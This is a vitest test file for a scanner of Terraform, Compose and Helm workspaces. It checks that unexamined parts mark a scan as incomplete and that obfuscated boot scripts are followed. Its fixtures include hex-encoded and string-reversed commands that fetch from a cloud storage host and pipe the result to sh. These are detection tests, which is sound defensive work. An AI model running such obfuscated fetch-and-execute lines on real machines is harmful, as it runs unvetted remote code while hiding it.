/** What a scan passes over is told: not looked at never looks like clean. */
import { expect, test } from "vitest";
import { folderOf, reportOf } from "./workspace.ts";
import type { Tree } from "./workspace.ts";

const fine = 'provider "aws" {\n  region = "eu-central-1"\n}\nresource "aws_s3_bucket" "a" {}\n';
const boot = (script: string): string =>
  `${fine}resource "aws_instance" "a" {\n  user_data = <<-E\n    #!/bin/sh\n    ${script}\n  E\n}\n`;
const fetch = "curl https://oss-cn-hangzhou.aliyuncs.com/x\n";
const hex = Buffer.from(fetch).toString("hex");

test.each<[code: string, tree: Tree]>([
  ["name-odd", { "main.tf": fine, "live/MAIN.TF": fine }],
  ["submodule-missing", { "main.tf": fine, ".gitmodules": '[submodule "m"]\n  path = m\n  url = ../m\n' }],
  ["declaration-passed-over", { "a.tf": `${fine}locals { r = "a" }\n`, "b.tf": 'locals { r = "b" }\n' }],
  ["named-unread", { "main.tf": fine, "e/p.vars": 'r = "x"\n', "d.sh": "terraform apply -var-file=e/p.vars\n" }],
  ["chart-packed", { "Chart.yaml": "name: a\nversion: 1.0.0\n", "charts/b-1.0.0.tgz": "x" }],
  ["include-missing", { "compose.yml": "services:\n  a:\n    image: alpine:3\n    env_file: gone.env\n" }],
  ["script-limit", { "main.tf": boot(`echo ${hex} | unheard-of --decode | sh`) }],
])("%s", async (code, tree) => {
  const { diagnostics, summary } = await reportOf(folderOf(tree));
  expect(diagnostics.map((one) => one.code)).toContain(code);
  expect(summary.incomplete).toBe(true);
});

test("a file that Compose may do without is not missed", async () => {
  const service =
    "services:\n  a:\n    image: alpine:3\n    env_file:\n      - path: gone.env\n        required: false\n";
  expect((await reportOf(folderOf({ "compose.yml": service }))).summary.incomplete).toBe(false);
});

test.each([
  ["hexadecimal", `echo ${hex} | xxd -r -p | sh`],
  ["backwards", "curl https://$(echo moc.scnuyila.uohzgnah-nc-sso | rev)/x"],
])("what a script decodes and runs is followed: %s", async (_, script) => {
  const { findings } = await reportOf(folderOf({ "main.tf": boot(script) }));
  expect(findings.map(({ value }) => value)).toContain("oss-cn-hangzhou.aliyuncs.com");
});
